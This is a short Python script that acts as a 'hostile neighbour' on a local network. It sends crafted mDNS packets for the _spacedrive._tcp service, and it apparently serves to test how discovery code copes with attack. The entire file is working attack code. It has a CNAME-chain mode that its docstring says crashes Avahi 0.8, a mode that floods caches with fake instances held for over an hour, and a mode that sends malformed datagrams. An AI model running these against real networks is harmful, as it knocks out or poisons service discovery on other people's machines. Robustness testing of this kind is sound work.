"""A hostile neighbour on the local network.
usage: mdns_hostile.py OWN-ADDRESS cname INSTANCE   CNAMEs for a followed name, which Avahi 0.8 does not survive
       mdns_hostile.py OWN-ADDRESS flood COUNT      as many instances that do not exist, with TTLs of over an hour
       mdns_hostile.py OWN-ADDRESS noise            datagrams that are no DNS messages"""
import os
import random
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)
TYPE = "_spacedrive._tcp.local"
A, CNAME, PTR, TXT, SRV = 1, 5, 12, 16, 33


def name(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".")) + b"\0"


def record(owner, kind, ttl, data, flush=False):
    return name(owner) + struct.pack(">HHIH", kind, 0x8001 if flush else 1, ttl, len(data)) + data


def response(*records):
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def srv(host, port):
    return struct.pack(">HHH", 0, 0, port) + name(host)


def cname(send, instance):
    full = f"{instance}.{TYPE}"
    for owner, kind in ((full, SRV), (full, TXT), (f"{instance}-kith.local", A)):
        other = "x" + owner
        data = {SRV: srv("y.local", 1), TXT: b"\3v=1", A: bytes([10, 0, 0, 1])}[kind]
        send(response(record(owner, CNAME, 120, name(other))))
        time.sleep(0.2)
        send(response(record(other, kind, 120, data)))
        time.sleep(0.2)
        send(response(record(other, kind, 0, data)))
        send(response(record(owner, CNAME, 120, name(owner))))
    time.sleep(1.5)


def flood(send, count):
    for i in range(int(count)):
        uuid = "%08x-0000-4000-8000-%012x" % (i, i)
        instance = f"{uuid}-0000"
        full, host = f"{instance}.{TYPE}", f"{instance}-kith.local"
        send(response(record(TYPE, PTR, 4500, name(full)), record(full, SRV, 4500, srv(host, 7)),
                      record(full, TXT, 4500, b"".join(bytes([len(s)]) + s.encode() for s in
                                                       ("v=1", "id=" + uuid, "fp=0000000000000000"))),
                      record(host, A, 4500, bytes([10, 1, i >> 8 & 255, i & 255]))))
        if i % 10 == 9:
            time.sleep(0.04)  # as fast as it is taken: what is lost fills no cache


def noise(send):
    random.seed(1)
    whole = response(record(TYPE, PTR, 120, name(f"noise.{TYPE}")))
    send(b"\0")
    for cut in range(1, len(whole)):
        send(whole[:cut])
    for _ in range(300):
        send(os.urandom(random.randrange(1, 200)))
        send(whole[:12] + os.urandom(random.randrange(1, 100)))


address, what = sys.argv[1:3]
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
sock.bind(("", 5353))
sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
{"cname": cname, "flood": flood, "noise": noise}[what](lambda data: sock.sendto(data, GROUP), *sys.argv[3:])
